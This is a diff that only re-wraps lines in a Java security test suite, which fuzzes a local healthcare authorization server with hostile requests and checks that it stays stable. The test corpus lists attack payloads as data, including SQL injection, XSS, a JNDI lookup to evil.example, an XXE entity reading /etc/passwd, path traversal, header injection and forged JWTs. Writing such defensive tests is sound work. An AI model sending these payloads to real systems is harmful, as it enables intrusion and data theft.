@@ -65,15 +65,18 @@ import org.springframework.security.oauth2.jwt.JwtEncoderParameters;
 import static org.assertj.core.api.Assertions.assertThat;
 
 /**
- * The hostile-input suite (issue #12): starts Concord on a free port with its own in-memory database and no
- * {@code concord.issuer}, then sends a generated corpus over raw sockets: every operation of {@code /v3/api-docs}
- * and the OAuth, UMA, AuthZEN and discovery endpoints, each with missing, garbage, forged (alg none, HS256, foreign
- * {@code jwk} header, tampered claims), expired and wrong-issuer tokens, and with malformed and deeply nested JSON,
- * wrong types, wildcard and wrong media types, oversized bodies and headers, invalid UTF-8, NUL bytes, injection
- * strings, bad NHS numbers and dates. It asserts: no 5xx and no ERROR log line; no change to the service's state
- * (every table but the audit log, tokens and sign-in counters, compared before and after each request) from any
- * refused request; health still UP; the audit chain still verifying; the issuer never taken from {@code Host}.
- * The counts are printed and recorded in docs/security.md.
+ * The hostile-input suite (issue #12): starts Concord on a free port with its own
+ * in-memory database and no {@code concord.issuer}, then sends a generated corpus over
+ * raw sockets: every operation of {@code /v3/api-docs} and the OAuth, UMA, AuthZEN and
+ * discovery endpoints, each with missing, garbage, forged (alg none, HS256, foreign
+ * {@code jwk} header, tampered claims), expired and wrong-issuer tokens, and with
+ * malformed and deeply nested JSON, wrong types, wildcard and wrong media types,
+ * oversized bodies and headers, invalid UTF-8, NUL bytes, injection strings, bad NHS
+ * numbers and dates. It asserts: no 5xx and no ERROR log line; no change to the service's
+ * state (every table but the audit log, tokens and sign-in counters, compared before and
+ * after each request) from any refused request; health still UP; the audit chain still
+ * verifying; the issuer never taken from {@code Host}. The counts are printed and
+ * recorded in docs/security.md.
  */
 class HostileInputTests {
 
@@ -84,7 +87,8 @@ class HostileInputTests {
 	private static final List<String> UNTRACKED = List.of("audit_record", "audit_chain_head", "oauth2_authorization",
 			"oauth2_authorization_consent", "client_assertion_jti", "revoked_access_token", "flyway_schema_history",
 			"identity_write_lock",
-			// signed checkpoints of the audit chain head, written every second by each node (durability)
+			// signed checkpoints of the audit chain head, written every second by each
+			// node (durability)
 			"audit_checkpoint");
 
 	private static final List<String> UNTRACKED_COLUMNS = List.of("FAILED_LOGINS", "LOCKED_UNTIL");
@@ -108,7 +112,8 @@ class HostileInputTests {
 		}
 		base = "http://localhost:" + port;
 		context = new SpringApplicationBuilder(ConcordServerApplication.class)
-			// the test sources' @TestConfiguration (MockMvc fixtures) belong to the cached MockMvc context, not here
+			// the test sources' @TestConfiguration (MockMvc fixtures) belong to the
+			// cached MockMvc context, not here
 			.initializers((initializing) -> initializing.getBeanFactory()
 				.registerSingleton("excludeTestConfigurations", new TypeExcludeFilter() {
 					@Override
@@ -117,14 +122,16 @@ class HostileInputTests {
 					}
 				}))
 			.run("--server.port=" + port,
-				"--spring.datasource.url=jdbc:h2:mem:hostile-" + UUID.randomUUID()
-						+ ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1",
-				"--concord.bootstrap-admin.username=hostile-admin", "--concord.bootstrap-admin.password=" + PASSWORD,
-				"--concord.keys.rsa-key-size=2048", "--spring.jmx.enabled=false",
-				// the administrator signs in with the password alone (the second factor has its own tests)
-				"--concord.second-factor.required-roles=", "--logging.level.root=WARN",
-				"--logging.level.care.concord=WARN", "--logging.level.care.concord.security=ERROR",
-				"--logging.level.org.springframework.security=ERROR", "--concord.audit.wait-timeout=5s");
+					"--spring.datasource.url=jdbc:h2:mem:hostile-" + UUID.randomUUID()
+							+ ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1",
+					"--concord.bootstrap-admin.username=hostile-admin",
+					"--concord.bootstrap-admin.password=" + PASSWORD, "--concord.keys.rsa-key-size=2048",
+					"--spring.jmx.enabled=false",
+					// the administrator signs in with the password alone (the second
+					// factor has its own tests)
+					"--concord.second-factor.required-roles=", "--logging.level.root=WARN",
+					"--logging.level.care.concord=WARN", "--logging.level.care.concord.security=ERROR",
+					"--logging.level.org.springframework.security=ERROR", "--concord.audit.wait-timeout=5s");
 		jdbc = new JdbcTemplate(context.getBean(javax.sql.DataSource.class));
 		errorAppender = new AppenderBase<>() {
 			@Override
@@ -166,8 +173,8 @@ class HostileInputTests {
 		String before = fingerprint();
 		for (Probe probe : corpus) {
 			if (statuses.values().stream().mapToInt(Integer::intValue).sum() % 500 == 0) {
-				System.out.printf("hostile suite: %d of %d sent, %d s%n", statuses.values().stream()
-					.mapToInt(Integer::intValue).sum(), corpus.size(),
+				System.out.printf("hostile suite: %d of %d sent, %d s%n",
+						statuses.values().stream().mapToInt(Integer::intValue).sum(), corpus.size(),
 						Duration.ofNanos(System.nanoTime() - started).toSeconds());
 			}
 			int status = send(probe);
@@ -198,7 +205,8 @@ class HostileInputTests {
 		assertThat(discovery.text()).contains("\"issuer\":\"" + base + "\"").doesNotContain("evil.example");
 	}
 
-	// ---------------------------------------------------------------- fixtures: real accounts, clients, tokens
+	// ---------------------------------------------------------------- fixtures: real
+	// accounts, clients, tokens
 
 	record Fixtures(String admin, String citizen, String officer, String agencyToken, String clientId,
 			String clientSecret, String nhsNumber, List<String> forged) {
@@ -212,7 +220,8 @@ class HostileInputTests {
 	private static Fixtures fixtures() throws Exception {
 		String admin = personToken("hostile-admin");
 		String code = "HS" + (100 + (int) (Math.random() * 800));
-		Http created = post("/api/admin/agencies", admin, "{\"code\":\"" + code + "\",\"name\":\"Hostile\",\"org_type\":\"gp\"}");
+		Http created = post("/api/admin/agencies", admin,
+				"{\"code\":\"" + code + "\",\"name\":\"Hostile\",\"org_type\":\"gp\"}");
 		assertThat(created.status()).as(created.body()).isEqualTo(201);
 		Http client = post("/api/admin/agencies/" + code + "/clients", admin,
 				"{\"scopes\":[\"decision\",\"uma_protection\",\"uma_authorization\",\"identity\",\"record_location\"]}");
@@ -221,10 +230,15 @@ class HostileInputTests {
 		String clientId = clientJson.get("client_id").asString();
 		String secret = clientJson.get("client_secret").asString();
 		String nhs = "9434765919";
-		assertThat(post("/api/admin/people", admin, "{\"username\":\"hostile-citizen\",\"password\":\"" + PASSWORD
-				+ "\",\"roles\":[\"citizen\"],\"nhs_number\":\"" + nhs + "\"}").status()).isEqualTo(201);
-		assertThat(post("/api/admin/people", admin, "{\"username\":\"hostile-officer\",\"password\":\"" + PASSWORD
-				+ "\",\"roles\":[\"ig-officer\"]}").status()).isEqualTo(201);
+		assertThat(
+				post("/api/admin/people", admin,
+						"{\"username\":\"hostile-citizen\",\"password\":\"" + PASSWORD
+								+ "\",\"roles\":[\"citizen\"],\"nhs_number\":\"" + nhs + "\"}")
+					.status())
+			.isEqualTo(201);
+		assertThat(post("/api/admin/people", admin,
+				"{\"username\":\"hostile-officer\",\"password\":\"" + PASSWORD + "\",\"roles\":[\"ig-officer\"]}")
+			.status()).isEqualTo(201);
 		String citizen = personToken("hostile-citizen");
 		String officer = personToken("hostile-officer");
 		Http token = form("/oauth2/token", basic(clientId, secret), "grant_type=client_credentials&scope="
@@ -243,7 +257,8 @@ class HostileInputTests {
 		Map<String, Object> promoted = new LinkedHashMap<>(claims);
 		promoted.put("roles", List.of("admin"));
 		String promotedPayload = b64(JSON.writeValueAsBytes(promoted));
-		forged.add(b64("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "." + promotedPayload + ".");
+		forged.add(b64("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "." + promotedPayload
+				+ ".");
 		// tampered claims under the original signature
 		forged.add(parts[0] + "." + promotedPayload + "." + parts[2]);
 		// HS256 keyed with the published RSA modulus (algorithm confusion)
@@ -251,14 +266,16 @@ class HostileInputTests {
 		byte[] modulus = jwks.get("keys").get(0).get("n").asString().getBytes(StandardCharsets.UTF_8);
 		byte[] secret = MessageDigest.getInstance("SHA-256").digest(modulus);
 		JWTClaimsSet set = JWTClaimsSet.parse(promoted);
-		SignedJWT hs = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(jwks.get("keys").get(0).get("kid")
-			.asString()).build(), set);
+		SignedJWT hs = new SignedJWT(
+				new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(jwks.get("keys").get(0).get("kid").asString()).build(),
+				set);
 		hs.sign(new MACSigner(secret));
 		forged.add(hs.serialize());
 		// signed by the attacker's key, announced in jwk / jku / x5u headers
 		RSAKey attacker = new RSAKeyGenerator(2048).keyID("attacker").generate();
 		for (int i = 0; i < 3; i++) {
-			JWSHeader.Builder header = new JWSHeader.Builder(JWSAlgorithm.RS256).type(JOSEObjectType.JWT).keyID("attacker");
+			JWSHeader.Builder header = new JWSHeader.Builder(JWSAlgorithm.RS256).type(JOSEObjectType.JWT)
+				.keyID("attacker");
 			if (i == 0) {
 				header.jwk(attacker.toPublicJWK());
 			}
@@ -286,8 +303,9 @@ class HostileInputTests {
 			builder.issuer((i == 0) ? base : "http://evil.example")
 				.issuedAt(now.minusSeconds(7200))
 				.expiresAt((i == 0) ? now.minusSeconds(3600) : now.plusSeconds(600));
-			forged.add(encoder.encode(JwtEncoderParameters.from(JwsHeader.with(
-					org.springframework.security.oauth2.jose.jws.SignatureAlgorithm.RS256).build(), builder.build()))
+			forged.add(encoder.encode(JwtEncoderParameters.from(
+					JwsHeader.with(org.springframework.security.oauth2.jose.jws.SignatureAlgorithm.RS256).build(),
+					builder.build()))
 				.getTokenValue());
 		}
 		forged.add("garbage");
@@ -315,9 +333,9 @@ class HostileInputTests {
 		Matcher code = Pattern.compile("[?&]code=([^&]+)").matcher(authorize.location());
 		assertThat(code.find()).as(authorize.location()).isTrue();
 		assertThat(authorize.location()).contains("iss=");
-		Http token = form("/oauth2/token", null, "grant_type=authorization_code&client_id=concord-console&code="
-				+ code.group(1) + "&redirect_uri=" + URLEncoder.encode(redirect, StandardCharsets.UTF_8)
-				+ "&code_verifier=" + verifier);
+		Http token = form("/oauth2/token", null,
+				"grant_type=authorization_code&client_id=concord-console&code=" + code.group(1) + "&redirect_uri="
+						+ URLEncoder.encode(redirect, StandardCharsets.UTF_8) + "&code_verifier=" + verifier);
 		assertThat(token.status()).as(token.body()).isEqualTo(200);
 		COOKIES.getCookieStore().removeAll();
 		return JSON.readTree(token.body()).get("access_token").asString();
@@ -325,9 +343,9 @@ class HostileInputTests {
 
 	// ---------------------------------------------------------------- corpus
 
-	private static final List<String> PATH_VALUES = List.of("x", "0", "-1", "9434765918", "943476591", "../../etc/passwd",
-			"%00", "%27%20OR%201%3D1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a".repeat(300), "%C3%28", "%FF%FE",
-			"9434765919");
+	private static final List<String> PATH_VALUES = List.of("x", "0", "-1", "9434765918", "943476591",
+			"../../etc/passwd", "%00", "%27%20OR%201%3D1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "a".repeat(300),
+			"%C3%28", "%FF%FE", "9434765919");
 
 	private static final List<String> STRINGS = List.of("' OR 1=1--", "\"; DROP TABLE person; --",
 			"<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
@@ -349,24 +367,30 @@ class HostileInputTests {
 				}
 				operations++;
 				boolean hasBody = method.getValue().has("requestBody");
-				// unacceptable tokens (four per operation, in turn, so every one meets every kind of operation), none
+				// unacceptable tokens (four per operation, in turn, so every one meets
+				// every kind of operation), none
 				for (int i = 0; i < 4; i++) {
 					String token = fixtures.forged().get((operations * 4 + i) % fixtures.forged().size());
-					corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token), hasBody ? "application/json" : null,
+					corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token),
+							hasBody ? "application/json" : null,
 							hasBody ? "{}".getBytes(StandardCharsets.UTF_8) : null));
 				}
 				corpus.add(new Probe(verb, path(path.getKey(), variant++), List.of(), null, null));
 				// every real caller, with hostile paths and queries
 				for (String token : fixtures.validTokens()) {
-					corpus.add(new Probe(verb, path(path.getKey(), variant++) + "?page=-1&size=99999&from=2026-13-45&subject="
-							+ PATH_VALUES.get(variant % PATH_VALUES.size()), bearer(token), null, null));
+					corpus.add(
+							new Probe(verb,
+									path(path.getKey(), variant++) + "?page=-1&size=99999&from=2026-13-45&subject="
+											+ PATH_VALUES.get(variant % PATH_VALUES.size()),
+									bearer(token), null, null));
 				}
 				// every hostile body, each from one of the real callers in turn
 				if (hasBody) {
 					int caller = operations;
 					for (Body body : bodies(variant)) {
 						String token = fixtures.validTokens().get(caller++ % fixtures.validTokens().size());
-						corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token), body.type(), body.bytes()));
+						corpus.add(new Probe(verb, path(path.getKey(), variant++), bearer(token), body.type(),
+								body.bytes()));
 					}
 				}
 			}
@@ -374,13 +398,17 @@ class HostileInputTests {
 		return operations;
 	}
 
-	/** The path with its {parameters} replaced by hostile values (a known NHS number now and then). */
+	/**
+	 * The path with its {parameters} replaced by hostile values (a known NHS number now
+	 * and then).
+	 */
 	private static String path(String template, int variant) {
 		StringBuilder out = new StringBuilder();
 		Matcher parameter = Pattern.compile("\\{[^}]+}").matcher(template);
 		int i = 0;
 		while (parameter.find()) {
-			parameter.appendReplacement(out, Matcher.quoteReplacement(PATH_VALUES.get((variant + i++) % PATH_VALUES.size())));
+			parameter.appendReplacement(out,
+					Matcher.quoteReplacement(PATH_VALUES.get((variant + i++) % PATH_VALUES.size())));
 		}
 		parameter.appendTail(out);
 		return out.toString();
@@ -404,14 +432,18 @@ class HostileInputTests {
 		bodies.add(new Body(json, utf8("{\"effect\":" + quoted + ",\"national_data_opt_out\":-1,\"nhs_number\":"
 				+ quoted + ",\"username\":" + quoted + ",\"code\":" + quoted + ",\"roles\":[" + quoted + "]}")));
 		bodies.add(new Body(json, utf8("{\"unexpected_member\":true,\"effect\":\"permit\",\"effect\":\"deny\"}")));
-		bodies.add(new Body(json, utf8("{\"subject\":{\"type\":\"patient\",\"id\":\"9434765918\"},\"resource\":{},"
-				+ "\"action\":{\"name\":" + quoted + "},\"date_of_birth\":\"2026-02-30\",\"valid_from\":\"yesterday\"}")));
-		bodies.add(new Body(json, new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' }));
+		bodies.add(new Body(json,
+				utf8("{\"subject\":{\"type\":\"patient\",\"id\":\"9434765918\"},\"resource\":{},"
+						+ "\"action\":{\"name\":" + quoted
+						+ "},\"date_of_birth\":\"2026-02-30\",\"valid_from\":\"yesterday\"}")));
+		bodies.add(new Body(json,
+				new byte[] { '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}' }));
 		bodies.add(new Body(json, utf8("{\"a\":\"\u0000\",\"b\u0000\":1}")));
 		bodies.add(new Body(json, utf8("{\"pad\":\"" + "x".repeat(70_000) + "\"}")));
 		bodies.add(new Body((variant % 2 == 0) ? "*/*" : "application/*", utf8("{}")));
 		bodies.add(new Body("text/plain", utf8("{}")));
-		bodies.add(new Body("application/xml", utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
+		bodies.add(new Body("application/xml",
+				utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")));
 		bodies.add(new Body("application/json; charset=ebcdic", utf8("{}")));
 		bodies.add(new Body("not a media type", utf8("{}")));
 		bodies.add(new Body("application/fhir+json", utf8("{\"resourceType\":\"Consent\",\"status\":" + quoted + "}")));
@@ -424,10 +456,12 @@ class HostileInputTests {
 		List<String> forms = new ArrayList<>(List.of("", "grant_type=", "grant_type=password&username=a&password=b",
 				"grant_type=client_credentials&scope=admin", "grant_type=client_credentials&scope=" + "x".repeat(5000),
 				"grant_type=authorization_code&code=forged&code_verifier=x&redirect_uri=https%3A%2F%2Fevil.example",
-				"grant_type=refresh_token&refresh_token=forged", "grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Auma-ticket&ticket=forged",
+				"grant_type=refresh_token&refresh_token=forged",
+				"grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Auma-ticket&ticket=forged",
 				"grant_type=urn%3Aietf%3Aparams%3Aoauth%3Agrant-type%3Auma-ticket&ticket=x&rpt=garbage&claim_token=e30&claim_token_format=x",
-				"grant_type=client_credentials&grant_type=client_credentials", "token=%00%FF", "token=" + "a".repeat(9000),
-				"token=garbage&token_type_hint=refresh_token", "grant_type=%C3%28", "client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion=a.b.c&grant_type=client_credentials",
+				"grant_type=client_credentials&grant_type=client_credentials", "token=%00%FF",
+				"token=" + "a".repeat(9000), "token=garbage&token_type_hint=refresh_token", "grant_type=%C3%28",
+				"client_assertion_type=urn%3Aietf%3Aparams%3Aoauth%3Aclient-assertion-type%3Ajwt-bearer&client_assertion=a.b.c&grant_type=client_credentials",
 				"client_id=" + f.clientId() + "&client_secret=wrong&grant_type=client_credentials",
 				"client_id=" + f.clientId() + "&client_secret=" + f.clientSecret() + "&grant_type=client_credentials"));
 		for (String token : f.forged()) {
@@ -435,18 +469,21 @@ class HostileInputTests {
 		}
 		List<List<String>> credentials = List.of(List.of(), List.of("Authorization: " + good),
 				List.of("Authorization: " + basic(f.clientId(), "wrong")), List.of("Authorization: Basic %%%"),
-				List.of("Authorization: " + good, "Authorization: " + good), List.of("Authorization: Bearer " + f.agencyToken()),
+				List.of("Authorization: " + good, "Authorization: " + good),
+				List.of("Authorization: Bearer " + f.agencyToken()),
 				List.of("Authorization: " + basic("unknown-client", "x")));
 		for (String endpoint : List.of("/oauth2/token", "/oauth2/introspect", "/oauth2/revoke")) {
 			for (int c = 0; c < credentials.size(); c++) {
 				List<String> credential = credentials.get(c);
-				// every body without and with the right credentials, a few with each bad one
+				// every body without and with the right credentials, a few with each bad
+				// one
 				for (int b = 0; b < forms.size(); b++) {
 					if (c < 2 || b % 10 == c) {
 						corpus.add(new Probe("POST", endpoint, credential, form, utf8(forms.get(b))));
 					}
 				}
-				corpus.add(new Probe("POST", endpoint, credential, "application/json", utf8("{\"grant_type\":\"client_credentials\"}")));
+				corpus.add(new Probe("POST", endpoint, credential, "application/json",
+						utf8("{\"grant_type\":\"client_credentials\"}")));
 				corpus.add(new Probe("POST", endpoint, credential, "*/*", utf8("grant_type=client_credentials")));
 				corpus.add(new Probe("GET", endpoint + "?grant_type=client_credentials", credential, null, null));
 				corpus.add(new Probe("PUT", endpoint, credential, form, utf8("grant_type=client_credentials")));
@@ -455,27 +492,29 @@ class HostileInputTests {
 		List<String> authorize = List.of("", "response_type=token&client_id=concord-console",
 				"response_type=code&client_id=concord-console&redirect_uri=https%3A%2F%2Fevil.example%2Fcb",
 				"response_type=code&client_id=concord-console&code_challenge_method=plain&code_challenge=x",
-				"response_type=code&client_id=concord-console&prompt=none&redirect_uri=" + URLEncoder.encode(base
-						+ "/console/callback", StandardCharsets.UTF_8) + "&code_challenge=" + "a".repeat(43)
-						+ "&code_challenge_method=S256",
+				"response_type=code&client_id=concord-console&prompt=none&redirect_uri="
+						+ URLEncoder.encode(base + "/console/callback", StandardCharsets.UTF_8) + "&code_challenge="
+						+ "a".repeat(43) + "&code_challenge_method=S256",
 				"response_type=code&client_id=%00", "response_type=code&client_id=" + "a".repeat(3000),
 				"response_type=code&client_id=unknown&redirect_uri=javascript%3Aalert(1)",
-				"response_type=code&response_type=code&client_id=concord-console", "request=a.b.c&client_id=concord-console",
+				"response_type=code&response_type=code&client_id=concord-console",
+				"request=a.b.c&client_id=concord-console",
 				"response_type=code&client_id=concord-console&scope=openid%20admin&state=%3Cscript%3E");
 		for (String query : authorize) {
 			corpus.add(new Probe("GET", "/oauth2/authorize?" + query, List.of(), null, null));
 			corpus.add(new Probe("POST", "/oauth2/authorize", List.of(), form, utf8(query)));
 		}
-		for (String path : List.of("/userinfo", "/connect/register", "/oauth2/jwks", "/.well-known/openid-configuration",
-				"/.well-known/oauth-authorization-server", "/.well-known/uma2-configuration", "/connect/logout",
-				"/oauth2/par", "/oauth2/device_authorization", "/.well-known/../actuator/env", "/error", "/error/x",
-				"/actuator/prometheus", "/actuator/env", "/actuator/heapdump", "/login", "/console/../../etc/passwd",
-				"/v3/api-docs/%00", "/swagger-ui.html")) {
+		for (String path : List.of("/userinfo", "/connect/register", "/oauth2/jwks",
+				"/.well-known/openid-configuration", "/.well-known/oauth-authorization-server",
+				"/.well-known/uma2-configuration", "/connect/logout", "/oauth2/par", "/oauth2/device_authorization",
+				"/.well-known/../actuator/env", "/error", "/error/x", "/actuator/prometheus", "/actuator/env",
+				"/actuator/heapdump", "/login", "/console/../../etc/passwd", "/v3/api-docs/%00", "/swagger-ui.html")) {
 			for (String method : List.of("GET", "POST", "PUT", "DELETE")) {
 				corpus.add(new Probe(method, path, List.of(), form, utf8("a=b")));
 			}
 			for (int i = 0; i < 3; i++) {
-				corpus.add(new Probe("GET", path, bearer(f.forged().get((path.length() + i) % f.forged().size())), null, null));
+				corpus.add(new Probe("GET", path, bearer(f.forged().get((path.length() + i) % f.forged().size())), null,
+						null));
 			}
 		}
 		for (String body : List.of("username=hostile-admin&password=wrong", "username=%00&password=%00",
@@ -484,17 +523,21 @@ class HostileInputTests {
 		}
 	}
 
-	/** Abuse of HTTP itself: oversized headers, invalid bytes in the request line, odd methods and headers. */
+	/**
+	 * Abuse of HTTP itself: oversized headers, invalid bytes in the request line, odd
+	 * methods and headers.
+	 */
 	private static void protocolProbes(List<Probe> corpus) {
-		for (String path : List.of("/api/me/directives", "/oauth2/token", "/access/v1/evaluation", "/uma/resource_set")) {
+		for (String path : List.of("/api/me/directives", "/oauth2/token", "/access/v1/evaluation",
+				"/uma/resource_set")) {
 			corpus.add(new Probe("GET", path, List.of("X-Big: " + "a".repeat(20_000)), null, null));
 			corpus.add(new Probe("GET", path, List.of("Authorization: Bearer " + "a".repeat(12_000)), null, null));
 			corpus.add(new Probe("GET", path + "?q=%00%0D%0ASet-Cookie:%20x=y", List.of(), null, null));
 			corpus.add(new Probe("GET", path + "/%2e%2e/%2e%2e/", List.of(), null, null));
 			corpus.add(new Probe("FOO", path, List.of(), null, null));
 			corpus.add(new Probe("TRACE", path, List.of(), null, null));
-			corpus.add(new Probe("OPTIONS", path, List.of("Origin: https://evil.example",
-					"Access-Control-Request-Method: POST"), null, null));
+			corpus.add(new Probe("OPTIONS", path,
+					List.of("Origin: https://evil.example", "Access-Control-Request-Method: POST"), null, null));
 			corpus.add(new Probe("POST", path, List.of("Content-Length: 999999999"), "application/json", utf8("{}")));
 			corpus.add(new Probe("POST", path, List.of("X-Forwarded-Host: evil.example", "X-Forwarded-Proto: gopher"),
 					"application/json", utf8("{}")));
@@ -514,8 +557,8 @@ class HostileInputTests {
 				.map((h) -> (h.length() > 60) ? h.substring(0, 60) + "..." : h)
 				.toList()
 				.toString();
-			String bodyShown = (this.body == null) ? "" : new String(this.body, 0, Math.min(this.body.length, 100),
-					StandardCharsets.UTF_8);
+			String bodyShown = (this.body == null) ? ""
+					: new String(this.body, 0, Math.min(this.body.length, 100), StandardCharsets.UTF_8);
 			return this.method + " " + shown + " " + headersShown + " " + this.contentType + " " + bodyShown;
 		}
 
@@ -541,7 +584,10 @@ class HostileInputTests {
 
 	}
 
-	/** One request on its own connection, bytes exactly as given (java.net.http refuses most of this corpus). */
+	/**
+	 * One request on its own connection, bytes exactly as given (java.net.http refuses
+	 * most of this corpus).
+	 */
 	private static Raw raw(String method, String target, List<String> headers, byte[] body) throws IOException {
 		try (Socket socket = new Socket("127.0.0.1", port)) {
 			socket.setSoTimeout(15_000);
@@ -568,7 +614,8 @@ class HostileInputTests {
 				out.flush();
 			}
 			catch (IOException ex) {
-				// the server may answer and close before reading an oversized request: read what it said
+				// the server may answer and close before reading an oversized request:
+				// read what it said
 			}
 			InputStream in = socket.getInputStream();
 			ByteArrayOutputStream response = new ByteArrayOutputStream();
@@ -579,7 +626,8 @@ class HostileInputTests {
 				}
 			}
 			catch (IOException ex) {
-				// connection reset (or the server still waiting for a body it was promised) after the answer
+				// connection reset (or the server still waiting for a body it was
+				// promised) after the answer
 			}
 			byte[] bytes = response.toByteArray();
 			String head = new String(bytes, 0, Math.min(bytes.length, 64), StandardCharsets.ISO_8859_1);
@@ -589,8 +637,9 @@ class HostileInputTests {
 	}
 
 	/**
-	 * True once the whole answer is in (headers, then Content-Length bytes or the last chunk): the server may keep
-	 * the connection open to drain a body a probe promised but never sent.
+	 * True once the whole answer is in (headers, then Content-Length bytes or the last
+	 * chunk): the server may keep the connection open to drain a body a probe promised
+	 * but never sent.
 	 */
 	private static boolean complete(byte[] bytes) {
 		String text = new String(bytes, StandardCharsets.ISO_8859_1);
@@ -609,11 +658,16 @@ class HostileInputTests {
 		return head.startsWith("http/1.1 1") || head.startsWith("http/1.1 204") || head.startsWith("http/1.1 304");
 	}
 
-	/** Every tracked table's rows (sign-in counters left out), hashed: equal before and after = no state change. */
+	/**
+	 * Every tracked table's rows (sign-in counters left out), hashed: equal before and
+	 * after = no state change.
+	 */
 	private static String fingerprint() throws Exception {
 		MessageDigest digest = MessageDigest.getInstance("SHA-256");
-		List<String> tables = jdbc.queryForList("SELECT table_name FROM information_schema.tables "
-				+ "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name", String.class);
+		List<String> tables = jdbc.queryForList(
+				"SELECT table_name FROM information_schema.tables "
+						+ "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY table_name",
+				String.class);
 		for (String table : tables) {
 			if (UNTRACKED.contains(table.toLowerCase())) {
 				continue;
@@ -648,7 +702,9 @@ class HostileInputTests {
 		.build();
 
 	private static Http get(String path, String bearer) throws Exception {
-		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path)).timeout(Duration.ofSeconds(60)).GET();
+		HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(base + path))
+			.timeout(Duration.ofSeconds(60))
+			.GET();
 		if (bearer != null) {
 			request.header("Authorization", "Bearer " + bearer);
 		}
